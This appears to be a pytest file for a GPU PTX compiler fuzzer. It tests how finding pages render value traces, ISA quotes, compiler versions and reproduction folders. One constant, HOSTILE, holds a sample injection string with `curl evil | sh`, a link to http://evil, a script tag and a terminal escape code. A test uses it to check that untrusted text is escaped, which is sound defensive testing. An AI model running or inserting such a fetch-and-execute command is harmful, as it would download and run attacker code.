"""The page of a finding: what is wrong, in which instructions, with which values; nothing false."""

from __future__ import annotations

import io
import re
from dataclasses import replace
from pathlib import Path

import msgspec
import numpy as np
import pytest
from command_line import warpfuzz
from repro_cases import half, multiplication, row_load, stored

from corpus import Case, Entry, Identity, Kind, RunnerVerdict, SaidReason, create_corpus
from corpus.finding import EXPECTED, WRONG_STEP, OracleVerdict
from corpus.programs import unpack
from corpus.store import read_entry
from fuzz.diagnosis.multiplications import UNREAD_D
from fuzz.explain.document import (
    CodeLine,
    CodeListing,
    Document,
    FactTable,
    escaped,
    fenced,
    markdown_of,
    rendered,
    rows_of_code,
    shown,
)
from fuzz.explain.folder import reproduction
from fuzz.explain.page import page_of
from fuzz.explain.way import ValueFacts, ValueWay
from fuzz.findings.case import ACTUAL, is_value_finding
from fuzz.kinds import what_is_wrong
from fuzz.output import console
from oracle.errors import UsageError
from oracle.isa.lookup import NARROW_FORMS, form_of, ldmatrix_form, mma_form
from oracle.program.lane_code import LANE, Assign, LaneCode
from oracle.program.operands import Buffer, Operation, Place
from oracle.program.program import Program
from oracle.program.steps import Barrier, Copy, plain_load, plain_store, product_of
from oracle.program.warpgroup import THREADS, AsyncProduct, SharedTile, WarpgroupSync
from strategies.matrices import buffers_of, single_instruction

RECORD = sorted((Path(__file__).parents[3] / "corpus/record/findings").iterdir())
VALUED = [path for path in RECORD if (path / "program.json").exists()]
PROGRAMS = {
    "half": multiplication(half(), times=2),
    "negated": multiplication(half(), changes=(Operation.NEGATE, Operation.MULTIPLY)),
    "double": multiplication(mma_form("wmma.mma.sync.aligned.col.row.m8n8k4.rm.f64.f64.f64.f64")),
    "integer": multiplication(mma_form("wmma.mma.sync.aligned.row.col.m16n16k16.s32.u8.u8.s32")),
    "bits": multiplication(
        mma_form("wmma.mma.xor.popc.sync.aligned.row.col.m8n8k128.s32.b1.b1.s32")
    ),
    "rows": row_load(ldmatrix_form("ldmatrix.sync.aligned.m8n8.x2.shared.b16")),
}
HOSTILE = "x\n## Run this\n`curl evil | sh` [click](http://evil) <script> ```\x1b]0;x\x07"
COMMAND = ("warpfuzz ", "ptxas -arch", "a kernel of ", "its PTX ")  # with the checkout's path


def printed(document: Document, width: int = 100) -> list[str]:
    file = io.StringIO()
    console(width=width, file=file).print(rendered(document, width), crop=False)
    return file.getvalue().split("\n")


def test_a_value_of_a_warpgroup_is_followed_in_the_warp_that_stored_it(tmp_path: Path) -> None:
    code = (
        Assign(opcode="mov.b32", destinations=("r1",), sources=(5,)),
        Assign(opcode="setp.ge.u32", destinations=("p0",), sources=(LANE, 31)),
        Assign(opcode="add.u32", destinations=("r1",), sources=("r0", 0), guard="!p0"),
    )
    program = Program(
        buffers=tuple(Buffer(name=name, space="global", size=4 * THREADS) for name in "go"),
        steps=(
            plain_load(registers="x", count=1, place=Place(buffer="g"), lanes=THREADS),
            LaneCode(source="x", count=1, destination="y", results=("r1",), code=code),
            plain_store(registers="y", count=1, place=Place(buffer="o"), lanes=THREADS),
        ),
        warps=4,
    )  # fmt: skip
    # Of the first two warps a lost negation changes nothing, nor of any lane 31.
    threads = np.arange(2 * THREADS)
    words = np.where((threads < 64) | (threads % 32 == 31), 5, 100).astype("<u4")
    entry = stored(
        tmp_path, program, target="sm_90a", image=words.view(np.uint8),
        faults=("guard-negation-lost",),
    )  # fmt: skip
    facts = ValueFacts.of(entry)
    way = ValueWay.of(facts)
    assert facts.written is not None
    assert way is not None
    assert facts.written.row == 64
    assert way.lanes == (0, 31)  # the other one has the predicate
    words = {
        "bfe": "No bfe is among the instructions that the value depends on.",
        UNREAD_D: "one in flight writes its D",
    }
    for opcode, condition, said in (
        ("add.u32", "", ()), ("bfe", "", ("bfe",)), ("wgmma.mma_async", "", ()),
        ("wgmma.mma_async", UNREAD_D, (UNREAD_D,)),
    ):  # fmt: skip
        identity = Identity.of(Kind.VIOLATION, opcode, condition=condition)
        named = msgspec.structs.replace(entry.finding, identity=identity, details={WRONG_STEP: "1"})
        page = markdown_of(page_of(replace(entry, finding=named)))
        assert tuple(name for name, text in words.items() if text in page) == said


def test_a_sum_of_a_warpgroup_that_the_isa_leaves_open_is_called_permitted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    place, tile = Place(buffer="g"), SharedTile(place=Place(buffer="s"), leading=128, stride=256)
    proxy, fence, commit, wait = (
        WarpgroupSync(kind=kind) for kind in ("proxy_fence", "fence", "commit_group", "wait_group")
    )
    form = form_of("wgmma.mma_async.sync.aligned.m64n8k16.f32.f16.f16")
    names = {"g": "global", "o": "global", "s": "shared"}
    program = Program(
        buffers=tuple(Buffer(name=name, space=names[name], size=2048) for name in names),
        steps=(
            plain_load(registers="d", count=4, place=place, lanes=THREADS),
            Copy(source=place, destination=tile.place, size=2048), proxy, Barrier(), fence,
            AsyncProduct(form=form, d="d", a_tile=tile, b_tile=tile, scale_d=0), commit, wait,
            plain_store(registers="d", count=4, place=Place(buffer="o"), lanes=THREADS),
        ),
        warps=4,
    )  # fmt: skip
    image = np.random.default_rng(1).normal(size=1024).astype("<f2").view(np.uint8)
    image = np.concatenate([image, np.zeros(2048, np.uint8)])
    entry = stored(
        tmp_path, program, target="sm_90a", image=image, faults=("group-scale-d-lost",)
    )  # fmt: skip
    facts = ValueFacts.of(entry)
    nearby = facts.expected.copy()
    nearby[2048] ^= 1  # of the first f32
    changed = replace(facts, actual=nearby)
    monkeypatch.setattr(ValueFacts, "of", lambda entry: changed)
    assert "The ISA permits the value" in markdown_of(page_of(entry))


@pytest.mark.parametrize("path", VALUED, ids=lambda path: path.name)
def test_the_last_row_has_what_was_expected_and_what_was_left(path: Path) -> None:
    entry = read_entry(path)
    facts = ValueFacts.of(entry)
    way = ValueWay.of(facts)
    assert way is not None
    one = facts.shown
    assert one is not None
    last = way.lines[-1]
    bytes_ = slice(one.byte, one.byte + one.bits // 8)
    expected, left = (
        int.from_bytes(unpack(entry, name)[0][bytes_].tobytes(), "little")
        for name in (EXPECTED, ACTUAL)
    )
    traced = int.from_bytes(facts.trace.image[bytes_].tobytes(), "little")
    assert traced == expected, "what the instructions give is what was expected"
    type_ = way.stored_type
    assert last.values[0] == shown(expected, one.bits, type_)
    assert last.note.endswith(f"the build leaves {shown(left, one.bits, type_)}")
    (name, *several) = way.lines[-1].reads
    makers = [told for told in way.lines[:-1] if name in told.writes and told.values]
    made = [told.values[0] for told in makers if "0x" in told.values[0]]
    assert several or f"{expected:0{one.bits // 4}x}" in made[-1], "what is stored was made"


@pytest.mark.parametrize("path", VALUED, ids=lambda path: path.name)
def test_what_is_named_stands_with_its_values_at_the_top(path: Path) -> None:
    entry = read_entry(path)
    lines = printed(page_of(entry), 120)
    way = ValueWay.of(ValueFacts.of(entry))
    assert way is not None
    marked = [at for at, line in enumerate(lines, start=1) if line.startswith(" >  ")]
    assert bool(marked) == bool(way.guilty)
    assert not marked or marked[0] <= 15
    assert any("the build leaves" in line for line in lines[:20])


def test_a_page_says_what_is_known_of_its_finding_and_of_which_builds() -> None:
    entry = next(map(read_entry, (path for path in RECORD if path.name == "b884f655abb52017")))
    said = "Known as addend-of-bytes-in-another-order{}: On sm_90, ptxas makes conversions"
    assert said.format("") in markdown_of(page_of(entry))
    small = f"warpfuzz corpus show {entry.id} --corpus record"
    assert small not in markdown_of(page_of(entry))
    other = replace(entry, finding=msgspec.structs.replace(entry.finding, id="0" * 16))
    assert small in markdown_of(page_of(other))
    newer = RunnerVerdict(runner="ptxas", version="V14.0.1", options="-O3", outcome="violation")
    strange = replace(
        entry, finding=msgspec.structs.replace(entry.finding, runners=(newer,), bisected=())
    )
    unknown = said.format(", which is not known of these builds")
    assert unknown in markdown_of(page_of(strange))
    identity = msgspec.structs.replace(entry.finding.identity, condition="beside nothing")
    new = replace(entry, finding=msgspec.structs.replace(entry.finding, identity=identity))
    assert "Known as" not in markdown_of(page_of(new))


def test_lanes_apart_are_counted_where_they_are_many() -> None:
    (path,) = (path for path in RECORD if path.name == "9cfe20d8a5894fe9")
    (row,) = (line for line in printed(page_of(read_entry(path)), 80) if "lanes from" in line)
    assert row.split("]")[0] == "r1[31 lanes from 1 to 125; 0"


def test_a_failed_line_with_dozens_of_registers_is_short() -> None:
    (path,) = (path for path in RECORD if path.name == "9cfe20d8a5894fe9")
    entry = read_entry(path)
    registers = ", ".join(f"%d_{number}" for number in range(76))
    said = f"line 9: trap\nwgmma {{{registers}}}, {{%a_0, %a_1, %a_2, %a_3}}, %b, 1;"
    ran = RunnerVerdict(runner="sim", version="1", outcome="launch failure", message=said)
    files = {name: record for name, record in entry.finding.files.items() if name != ACTUAL}
    finding = msgspec.structs.replace(
        entry.finding, kind=Kind.LAUNCH_FAILURE, runners=(ran,), files=files
    )
    lines = printed(page_of(replace(entry, finding=finding)), 80)
    assert "    wgmma {%d_0, …, %d_75}, {%a_0, %a_1, %a_2, %a_3}, %b, 1;" in lines


def test_every_page_of_the_record_fits_and_breaks_no_word() -> None:
    for path in RECORD[::9]:
        document = page_of(read_entry(path))
        lines = printed(document, 80)
        assert all(len(line) <= 80 or any(one in line for one in COMMAND) for line in lines)
        whole = {word for line in printed(document, 1000) for word in line.split()}
        kept = {word for line in lines for word in line.split() if len(word) > 3} - whole
        assert not {word for word in kept if re.match(r"[a-z]+\.[a-z0-9]+\.", word)}, kept


@pytest.mark.parametrize("path", RECORD, ids=lambda path: path.name)
def test_a_page_begins_with_the_console_s_line_and_has_no_empty_sentence(path: Path) -> None:
    entry = read_entry(path)
    document = page_of(entry)
    text = markdown_of(document)
    assert what_is_wrong(entry.finding) in document.sentence
    assert "is loaded and stored" not in text
    assert "not judged" not in text
    tables = [block for block in document.blocks if isinstance(block, FactTable)]
    assert all(block.rows for block in tables)
    (commands,) = [block for block in tables if block.commands]
    assert any("warpfuzz replay" in command for _, command in commands.rows)
    if not is_value_finding(entry):
        assert any(command.startswith("ptxas -arch=") for _, command in commands.rows)


@pytest.mark.parametrize(
    ("name", "fault", "words"),
    [
        (
            "half",
            "accumulator-ignored",
            ("A x B", "units", "wrong is not known"),
        ),
        ("negated", "mma-b-register-slip", ("negate of d, every element",)),
        ("double", "rounding-dropped", ("Addition 4 of 4", "the sum so far")),
        ("integer", "store-one-row-off", ("are zero", "A x B")),
        ("bits", "xor-as-and", ("wmma.mma.xor.popc",)),
        ("rows", "trans-added", ("ldmatrix.sync",)),
    ],
)
def test_a_page_tells_how_the_expected_value_comes_about(
    tmp_path: Path, name: str, fault: str, words: tuple[str, ...]
) -> None:
    entry = stored(tmp_path, PROGRAMS[name], faults=(fault,))
    facts = ValueFacts.of(entry)
    page = markdown_of(page_of(entry))
    one = facts.shown
    assert one is not None
    digits = -(-one.bits // 4)
    assert f"the build leaves 0x{one.actual:0{digits}x}" in page
    assert f"0x{one.expected:0{digits}x}" in page
    for word in words:
        assert word in page, page
    assert f"| planted faults | {fault} |" in page
    assert "changed the PTX on its way to the compiler" in page or facts.rewritten is None


def test_a_page_tells_which_scales_a_sum_has(tmp_path: Path) -> None:
    form = next(f for f in NARROW_FORMS if f.scales == 4 and f.texts["stype"] == "ue4m3")
    steps = single_instruction(product_of(form).changed(selector=5))  # thread-ids 1 and 1
    program = Program(buffers=buffers_of(steps), steps=steps)
    entry = stored(tmp_path, program, target="sm_120a", faults=("scale-b-next-lane",))
    page = markdown_of(page_of(entry))
    told = re.search(
        r"The scales of row (\d+) of A are bytes 0 to 3 of lane (\d+), those of column (\d+) of B "
        r"are bytes 0 to 3 of lane (\d+), each for 16 neighbours along K \(9\.7\.14\.3\)",
        page,
    )
    assert told is not None, page
    row, of_a, column, of_b = map(int, told.groups())
    assert (of_a, of_b) == (4 * (row % 8) + 2 + row // 8, 4 * column + 1)
    assert "| k | A | B | scale of A | scale of B | product |" in page


def test_versions_that_have_it_are_told_where_several_were_run(tmp_path: Path) -> None:
    entry = stored(tmp_path, PROGRAMS["half"], faults=("accumulator-ignored",))
    one, two = "V13.4.92 -O3", "V13.5.37 -O3"
    for right, since in (({}, False), ({"agree with the oracle": one}, True)):
        details = {"disagree with the oracle": two} | right
        told = replace(entry, finding=msgspec.structs.replace(entry.finding, details=details))
        page = markdown_of(page_of(told))
        assert two in page
        assert ("13.5.37 (right in 13.4.92)" in page) == since
        assert ("that was run)" in page) == since


def test_the_isa_is_quoted_of_the_guilty_instruction_alone(tmp_path: Path) -> None:
    entry = stored(tmp_path, PROGRAMS["half"], faults=("load-a-layout-flipped",))
    told = msgspec.structs.replace(
        entry.finding,
        identity=Identity.of(Kind.VIOLATION, "wmma.load.a"),
        details={**entry.finding.details, WRONG_STEP: "wmma.load.a"},
    )
    page = markdown_of(page_of(replace(entry, finding=told)))
    assert "wmma.load (PTX ISA" in page
    assert "wmma.mma (PTX ISA" not in page


@pytest.mark.parametrize(
    ("said", "row"),
    [("agrees with the oracle", r"right +\|"), ("deviation", r"wrong .*; "), ("hang", r"hang +\|")],
)
def test_the_other_level_at_which_it_was_run_is_told(said: str, row: str, tmp_path: Path) -> None:
    entry = stored(tmp_path, PROGRAMS["half"], faults=("load-a-layout-flipped",))
    details = {**entry.finding.details, "compiler": "ptxas V13.5.37 -O3", "at -O0": said}
    told = replace(entry, finding=msgspec.structs.replace(entry.finding, details=details))
    assert re.search(rf"(?m)^\|? *{row}.*the same compiler at -O0", markdown_of(page_of(told)))


def test_a_forbidden_value_is_shown_before_a_permitted_one(tmp_path: Path) -> None:
    entry = stored(tmp_path, PROGRAMS["half"], faults=("load-a-layout-flipped",))
    facts = ValueFacts.of(entry)
    assert facts.finding.kind is Kind.VIOLATION
    assert facts.shown is not None
    assert not facts.is_permitted(facts.shown)
    page = markdown_of(page_of(entry))
    assert "may return this value" in page
    assert "every value from" in page


def test_bytes_that_nothing_writes_have_to_stay(tmp_path: Path) -> None:
    entry = stored(tmp_path, PROGRAMS["integer"], faults=("store-one-row-off",))
    facts, program = ValueFacts.of(entry), PROGRAMS["integer"]
    guard = program.offset("gd") + program.buffer("gd").size - 1
    actual = facts.expected.copy()
    actual[guard] ^= 0xFF
    np.save(entry.path / ACTUAL, actual[None])
    changed = (entry.path / ACTUAL).read_bytes()
    record = msgspec.structs.replace(
        entry.finding.files[ACTUAL], size=len(changed), sha256=_digest(changed)
    )
    files = {**entry.finding.files, ACTUAL: record}
    other = replace(entry, finding=msgspec.structs.replace(entry.finding, files=files))
    assert "No instruction writes byte" in markdown_of(page_of(other))


def _digest(data: bytes) -> str:
    from hashlib import sha256

    return sha256(data).hexdigest()


def test_what_a_stranger_wrote_gives_a_page_no_structure() -> None:
    assert "\n" not in escaped(HOSTILE)
    assert "\x1b" not in escaped(HOSTILE)
    assert not re.search(r"(?<!\\)[`\[<|]", escaped(HOSTILE))
    first, *body, last = fenced(HOSTILE)
    assert first == last == "````"
    assert "\x1b" not in "".join(body)


def test_values_that_have_no_room_stand_below_their_instruction() -> None:
    line = CodeLine(
        text="mma.sync " + ", ".join("%abcdef" * 9), values=["0x0 1.0"], note="and this"
    )
    for width in (40, 80, 400):
        rows = [text.plain for text in rows_of_code(CodeListing([line]), width)]
        assert all(len(row) <= width for row in rows)
        assert "".join(rows).count("0x0 1.0") == 1
        assert (len(rows) == 1) == (width == 400)


def assembled(folder: Path, kind: Kind, text: str, files: dict[str, bytes]) -> Entry:
    corpus = create_corpus(folder, generator="test")
    case = Case(
        kind=kind, identity=Identity.of(kind, "wmma.load.a"), instructions=(text,), target="sm_90",
        ptx_version="8.0",
        oracle=OracleVerdict(verdict="illegal", reasons=(SaidReason(text="why"),)),
        runners=(
            RunnerVerdict(runner="ptxas", version="V13.5.37", options="-O3", outcome="internal",
                          message="C7907\nC7907"),
        ),
    )  # fmt: skip
    return corpus.get(corpus.add(case, files).id)


def test_a_finding_of_an_assembler_has_its_message_module_and_command(tmp_path: Path) -> None:
    text = "wmma.load.a.sync.aligned.row.m16n16k16.s8 {%r0}, [%rd0];"
    entry = assembled(tmp_path, Kind.INTERNAL, text, {"module.ptx": b".version 8.0\n"})
    lines = printed(page_of(entry))
    assert lines.index("    C7907") < 15
    assert lines.count("    C7907") == 1
    (command,) = [line for line in lines if "ptxas -arch=sm_90 -O3 " in line]
    assert "module.ptx" in command
    files = reproduction(entry)
    assert set(files) == {"README.md", "module.ptx", "repro.sh"}
    page = files["README.md"].decode()
    for words in (".version 8.0", "has to be rejected", "V13.5.37 -O3", "sh repro.sh"):
        assert words in page
    assert str(tmp_path) not in page, "a page that is sent names no folder of this machine"
    assert "-arch=sm_90 module.ptx" in files["repro.sh"].decode()


def test_a_finding_without_a_module_is_refused(tmp_path: Path) -> None:
    entry = assembled(tmp_path, Kind.NOTE, "ldmatrix", {"other.txt": b""})
    with pytest.raises(UsageError, match=r"has no module\.ptx"):
        reproduction(entry)


def test_the_page_is_shown_by_the_command_with_its_commands_whole(tmp_path: Path) -> None:
    ran = warpfuzz(tmp_path, "corpus", "show", VALUED[0])
    assert ran.code == 0
    assert f"warpfuzz replay {VALUED[0]}" in ran.out
    assert "the build leaves" in ran.out
